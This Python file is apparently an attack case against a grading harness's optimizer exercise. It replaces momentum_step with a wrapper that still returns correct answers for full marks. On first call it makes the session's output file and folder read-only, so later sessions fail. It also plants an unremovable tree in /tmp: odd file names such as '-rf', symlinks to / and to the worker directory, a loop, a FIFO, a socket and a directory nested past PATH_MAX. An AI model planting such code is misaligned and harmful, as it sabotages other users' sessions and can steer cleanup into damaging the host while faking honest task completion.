# target: ch06/optim.py
# kind: cross-session
# attacks: ch06.optimizers
# outcome: full-marks
# statuses: passed
"""momentum_step leaves read-only residue in the scratch space for whoever the worker serves next:
its own output file made read-only in a read-only session folder (a later session cannot
truncate it, so it dies at start), a read-only tree of odd names (a newline, an undecodable byte,
a 255-byte name, a leading dash), a tree deeper than PATH_MAX, a folder no one may even list,
a FIFO, a Unix socket, a hard link and symlinks (to /, and a loop) that a careless wipe follows.
Its own answers are the worked solution's: it keeps full marks."""
import os as _os
import socket as _socket
import stat as _stat

_honest_momentum_step = momentum_step
_planted = []


def momentum_step(theta, V, grad, eta, beta):
    if not _planted:
        _planted.append(True)
        try:
            _plant_residue()
        except OSError:
            pass  # best effort: whatever it managed to plant stays
    return _honest_momentum_step(theta, V, grad, eta, beta)


def _plant_residue():
    scratch = "/tmp"
    session_dir = _os.environ.get("TMPDIR", "/tmp/session")  # the session's own folder, output.txt inside
    # (1) read-only look-alikes of the session's output file, and the real one made read-only
    for path in (_os.path.join(scratch, "output.txt"), _os.path.join(session_dir, "output.txt")):
        if not _os.path.exists(path):
            with open(path, "w") as fh:
                fh.write("residue\n")
        _os.chmod(path, 0o444)
    # (2) a read-only tree with odd names, special files and links
    top = _os.path.join(scratch, "residue")
    _os.makedirs(_os.path.join(top, "inner", "more"), exist_ok=True)
    names = ["new\nline", "sp ace", "-rf", ".hidden", "x" * 255, _os.fsdecode(b"bad\xffbyte"), "*", "\\"]
    for name in names:
        with open(_os.path.join(top, name), "w") as fh:
            fh.write("residue\n")
    with open(_os.path.join(top, "inner", "more", "file.txt"), "w") as fh:
        fh.write("residue\n")
    _os.mkfifo(_os.path.join(top, "fifo"))
    server = _socket.socket(_socket.AF_UNIX)
    server.bind(_os.path.join(top, "socket"))
    server.close()  # the socket file stays
    _os.link(_os.path.join(top, "sp ace"), _os.path.join(top, "hardlink"))
    _os.symlink("/", _os.path.join(top, "to-root"))
    _os.symlink("/geodl/worker", _os.path.join(top, "to-worker"))
    _os.symlink("loop", _os.path.join(top, "loop"))
    _os.symlink(top, _os.path.join(top, "inner", "up"))
    _os.mkdir(_os.path.join(top, "unlistable"))
    with open(_os.path.join(top, "unlistable", "hidden.txt"), "w") as fh:
        fh.write("residue\n")
    # (3) a tree deeper than PATH_MAX (4096 bytes), read-only at every level
    fd = _os.open(top, _os.O_RDONLY | _os.O_DIRECTORY)
    try:
        for _ in range(400):
            _os.mkdir("deep-level", dir_fd=fd)
            child = _os.open("deep-level", _os.O_RDONLY | _os.O_DIRECTORY, dir_fd=fd)
            _os.close(fd)
            fd = child
        with open(_os.open("bottom.txt", _os.O_WRONLY | _os.O_CREAT, 0o444, dir_fd=fd), "w") as fh:
            fh.write("residue\n")
        for _ in range(400):
            _os.fchmod(fd, 0o500)
            parent = _os.open("..", _os.O_RDONLY | _os.O_DIRECTORY, dir_fd=fd)
            _os.close(fd)
            fd = parent
    finally:
        _os.close(fd)
    # (4) everything read-only: files 0o444 (0o000 for one), folders 0o555 (0o000 for one)
    folders = []
    for root, dirs, files in _os.walk(top):
        dirs[:] = [d for d in dirs if d != "deep-level" and not _os.path.islink(_os.path.join(root, d))]
        folders += [_os.path.join(root, d) for d in dirs]
        for name in files:
            path = _os.path.join(root, name)
            if _stat.S_ISREG(_os.lstat(path).st_mode):
                _os.chmod(path, 0o000 if name == "hidden.txt" else 0o444)
    for path in reversed(folders):
        _os.chmod(path, 0o000 if path.endswith("unlistable") else 0o555)
    _os.chmod(top, 0o555)
    _os.chmod(session_dir, 0o555)  # nothing in it can be removed, and no later session recreates output.txt
